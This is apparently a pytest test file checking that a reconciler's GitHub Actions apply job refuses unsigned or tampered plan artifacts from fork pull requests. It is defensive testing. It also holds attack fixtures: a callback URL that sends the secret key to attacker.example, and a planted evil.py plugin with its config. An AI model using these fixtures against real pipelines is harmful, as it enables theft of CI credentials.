"""The attack path through the shipped workflows: a fork's plan artifact never applies.

A pull request from a fork runs its own copy of ``reconciler-plan.yml``, without secrets, and
can upload a ``reconciler-plan`` artifact of its choosing; ``reconciler-apply.yml`` downloads
the artifact of the merged pull request's run and applies it with the production credentials.
Here the shipped steps run as GitHub would run them (``bash -eo pipefail``, the step's ``env``
with ``secrets.*`` and ``vars.*`` filled in, a stand-in ``gh`` serving artifacts), the real
CLI in a subprocess, against the sandbox over a real socket.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import pytest
from ruamel.yaml import YAML

from reconciler_proctorexam.sandbox import DEFAULT_SECRET, DEFAULT_TOKEN, Sandbox

WORKFLOWS = Path(__file__).resolve().parents[2] / "examples" / "github-actions"

SEED = [
    {"id": 1, "short_name": "a", "name": "Alpha", "reminder_emails_enabled": False},
    {"id": 2, "short_name": "payroll", "name": "Payroll", "callback_url": None},
]
CONFIG = "institutes:\n  a: {reminder_emails_enabled: true}\n"
PLAN_KEY = "9f2c1e7a-plan-key-only-trusted-runs-receive"

#: Stands in for the GitHub CLI: serves artifacts from $FAKE_ARTIFACTS/<name>/, answers ids.
FAKE_GH = """#!/bin/sh
case "$1" in
  api) echo 4242 ;;
  run)
    if [ "$2" = list ]; then echo 4242; exit 0; fi
    name=""; dir="."
    while [ $# -gt 0 ]; do
      case "$1" in --name) name="$2"; shift ;; --dir) dir="$2"; shift ;; esac
      shift
    done
    [ -d "$FAKE_ARTIFACTS/$name" ] || exit 1
    mkdir -p "$dir"
    cp "$FAKE_ARTIFACTS/$name"/* "$dir"/ ;;
  *) exit 0 ;;
esac
"""

_EXPRESSION = re.compile(r"\$\{\{\s*(secrets|vars|github|inputs)\.([A-Za-z_]+)\s*\}\}")


def step(workflow: str, name: str) -> dict[str, Any]:
    document = YAML(typ="safe").load((WORKFLOWS / workflow).read_text("utf-8"))
    steps = [s for job in document["jobs"].values() for s in job["steps"]]
    return dict(next(s for s in steps if s.get("name") == name))


class Runner:
    """Runs workflow steps in one checkout, as a job of GitHub Actions would."""

    def __init__(
        self,
        checkout: Path,
        tools: Path,
        artifacts: Path,
        secrets: Mapping[str, str],
        variables: Mapping[str, str],
        job_env: Mapping[str, str] | None = None,
    ) -> None:
        self.checkout = checkout
        self.artifacts = artifacts
        self.secrets = secrets
        self.variables = variables
        keep = {
            k: v
            for k, v in os.environ.items()
            if not k.startswith("PROCTOREXAM_") and k != "RECONCILER_PLAN_KEY"
        }
        path = os.pathsep.join([str(tools), str(Path(sys.executable).parent), keep["PATH"]])
        self.env = {
            **keep,
            "PATH": path,
            "NO_COLOR": "1",
            "FAKE_ARTIFACTS": str(artifacts),
            "GITHUB_REPOSITORY": "owner/config",
            "GITHUB_SHA": "0" * 40,
            "GITHUB_OUTPUT": str(checkout / ".github_output"),
            "GITHUB_STEP_SUMMARY": str(checkout / ".step_summary"),
            "RUNNER_TEMP": str(checkout.with_name(checkout.name + "-runner-temp")),
            **(job_env or {}),
        }

    def _value(self, text: str) -> str:
        def fill(match: re.Match[str]) -> str:
            scope, name = match.groups()
            if scope == "secrets":
                return self.secrets.get(name, "")  # a run without the secret gets ""
            if scope == "vars":
                return self.variables.get(name, "")
            if scope == "inputs":
                return ""  # set only by a person running a workflow by hand
            return "github-token"

        return _EXPRESSION.sub(fill, text)

    def run(
        self, spec: Mapping[str, Any], script: str | None = None
    ) -> subprocess.CompletedProcess[str]:
        env = {**self.env, **{k: self._value(str(v)) for k, v in (spec.get("env") or {}).items()}}
        return subprocess.run(
            ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script or spec["run"]],
            cwd=self.checkout,
            env=env,
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )

    def upload(self, name: str, *files: str, extra: Mapping[str, str] | None = None) -> None:
        target = self.artifacts / name
        shutil.rmtree(target, ignore_errors=True)
        target.mkdir(parents=True)
        for file in files:
            shutil.copy(self.checkout / file, target / file)
        for file, text in (extra or {}).items():
            (target / file).write_text(text, encoding="utf-8")


@pytest.fixture
def world(
    proctorexam_sandbox_factory: Callable[..., Sandbox], tmp_path: Path
) -> tuple[Sandbox, Callable[..., Runner]]:
    sandbox = proctorexam_sandbox_factory(seed=SEED)
    tools = tmp_path / "tools"
    tools.mkdir()
    (tools / "gh").write_text(FAKE_GH, encoding="utf-8")
    (tools / "gh").chmod(0o755)
    artifacts = tmp_path / "artifacts"
    artifacts.mkdir()
    count = iter(range(100))

    def job(secrets: Mapping[str, str], **job_env: str) -> Runner:
        checkout = tmp_path / f"checkout-{next(count)}"
        (checkout / "config").mkdir(parents=True)
        (checkout / "config" / "institutes.yaml").write_text(CONFIG, encoding="utf-8")
        variables = {"PROCTOREXAM_BASE_URL": sandbox.base_url}
        return Runner(checkout, tools, artifacts, secrets, variables, job_env)

    return sandbox, job


TRUSTED = {
    "PROCTOREXAM_API_TOKEN": DEFAULT_TOKEN,
    "PROCTOREXAM_SECRET_KEY": DEFAULT_SECRET,
    "RECONCILER_PLAN_KEY": PLAN_KEY,
}


def writes(sandbox: Sandbox) -> list[tuple[str, str]]:
    return [(r.method, r.path) for r in sandbox.requests if r.is_write]


def apply_job(job: Callable[..., Runner]) -> subprocess.CompletedProcess[str]:
    """reconciler-apply.yml after the merge: fetch the run's plan artifact, apply it."""
    runner = job(TRUSTED)
    fetched = runner.run(step("reconciler-apply.yml", "Fetch the reviewed plan"))
    assert fetched.returncode == 0, fetched.stdout + fetched.stderr
    return runner.run(step("reconciler-apply.yml", "Apply"))


def _hijack_payroll(doc: dict[str, Any]) -> None:
    """Send the secret key to a host of the attacker's, through an institute nobody manages."""
    a = doc["plan"]["changes"][0]
    doc["plan"]["changes"].append(
        {
            **a,
            "address": "institute.payroll",
            "identity": "payroll",
            "ref": "2",
            "fields": [{"name": "callback_url", "sensitive": True, "location": None}],
        }
    )
    doc["objects"]["institute"].append({**doc["objects"]["institute"][0], "identity": "payroll"})
    doc["env_values"].append(
        {
            "address": "institute.payroll",
            "field": "callback_url",
            "written": "https://attacker.example/?k=${env:PROCTOREXAM_SECRET_KEY}",
            "variables": ["PROCTOREXAM_SECRET_KEY"],
        }
    )


def test_a_forks_plan_artifact_is_refused_and_the_trusted_plan_applies(
    world: tuple[Sandbox, Callable[..., Runner]],
) -> None:
    sandbox, job = world

    # The nightly drift job (trusted) keeps a live snapshot for forks to plan against.
    drift = job(TRUSTED)
    snapped = drift.run(step("reconciler-drift.yml", "Snapshot for pull requests from forks"))
    assert snapped.returncode == 0, snapped.stderr
    drift.upload("live-snapshot", "live.json")

    # The fork's pull request runs the shipped fork steps with no secrets, plus one line of
    # its own: --out plan.json, uploaded as the artifact the apply job looks for.
    fork = job({}, FROM_FORK="true")
    validated = fork.run(step("reconciler-plan.yml", "Validate"))
    assert validated.returncode == 0, validated.stderr
    fork_step = step(
        "reconciler-plan.yml", "Plan against the last live snapshot (pull requests from forks)"
    )
    script = fork_step["run"].replace("--no-local-plugins", "--no-local-plugins --out plan.json")
    planned = fork.run(fork_step, script)
    assert planned.returncode == 0, planned.stderr
    assert "signature" not in json.loads((fork.checkout / "plan.json").read_text())

    # Untampered but unsigned: refused. The artifact also carries settings and a local plugin
    # that would run at start-up were they to land in the checkout's root.
    marker = fork.checkout.parent / "plugin-ran"
    evil = {
        "reconciler.toml": '[plugins]\nlocal = ["evil.py"]\n',
        "evil.py": f"from pathlib import Path\nPath({str(marker)!r}).write_text('ran')\n",
    }
    fork.upload("reconciler-plan", "plan.json", extra=evil)
    sandbox.clear_requests()
    refused = apply_job(job)
    assert refused.returncode == 3, refused.stdout + refused.stderr
    assert "is not signed, and RECONCILER_PLAN_KEY" in refused.stderr
    assert sandbox.requests == []
    assert not marker.exists()

    # Tampered: refused, before any request.
    plan_file = fork.checkout / "plan.json"
    doc = json.loads(plan_file.read_text())
    _hijack_payroll(doc)
    plan_file.write_text(json.dumps(doc))
    fork.upload("reconciler-plan", "plan.json", extra=evil)
    refused = apply_job(job)
    assert refused.returncode == 3
    assert "is not signed" in refused.stderr
    assert sandbox.requests == []
    assert DEFAULT_SECRET not in refused.stdout + refused.stderr
    assert PLAN_KEY not in refused.stdout + refused.stderr

    # The same tampered plan, were the key not set, is still refused: it is not the config's.
    unsigned_run = job({k: v for k, v in TRUSTED.items() if k != "RECONCILER_PLAN_KEY"})
    unsigned_run.run(step("reconciler-apply.yml", "Fetch the reviewed plan"))
    direct = unsigned_run.run({}, "reconciler apply plan.json")
    assert direct.returncode == 3
    assert "institute.payroll: the plan updates it, but the configuration does not declare it" in (
        direct.stderr
    )
    assert sandbox.requests == []
    assert not marker.exists()
    # And the shipped apply step refuses to run at all without the key.
    no_key = unsigned_run.run(step("reconciler-apply.yml", "Apply"))
    assert no_key.returncode == 1
    assert "::error::set the RECONCILER_PLAN_KEY secret" in no_key.stdout

    # The trusted job of a branch of the repository: signed, applied.
    trusted = job(TRUSTED, FROM_FORK="false")
    made = trusted.run(step("reconciler-plan.yml", "Plan"))
    assert made.returncode == 0, made.stderr
    assert "exitcode=2" in (trusted.checkout / ".github_output").read_text()
    signed = json.loads((trusted.checkout / "plan.json").read_text())
    assert signed["signature"]["algorithm"] == "HMAC-SHA256"
    trusted.upload("reconciler-plan", "plan.json")
    sandbox.clear_requests()
    applied = apply_job(job)
    assert applied.returncode == 0, applied.stdout + applied.stderr
    assert writes(sandbox) == [("PATCH", "/api/v3/institutes/1")]
    state = {i["short_name"]: i for i in sandbox.institutes()}
    assert state["a"]["reminder_emails_enabled"] is True
    assert state["payroll"]["callback_url"] is None
    for text in (made.stdout, made.stderr, applied.stdout, applied.stderr, json.dumps(signed)):
        assert PLAN_KEY not in text
        assert DEFAULT_SECRET not in text

    # The trusted, signed plan tampered with after signing: refused.
    _hijack_payroll(signed)
    (trusted.checkout / "plan.json").write_text(json.dumps(signed))
    trusted.upload("reconciler-plan", "plan.json")
    sandbox.clear_requests()
    refused = apply_job(job)
    assert refused.returncode == 3
    assert "the signature does not match the file" in refused.stderr
    assert sandbox.requests == []
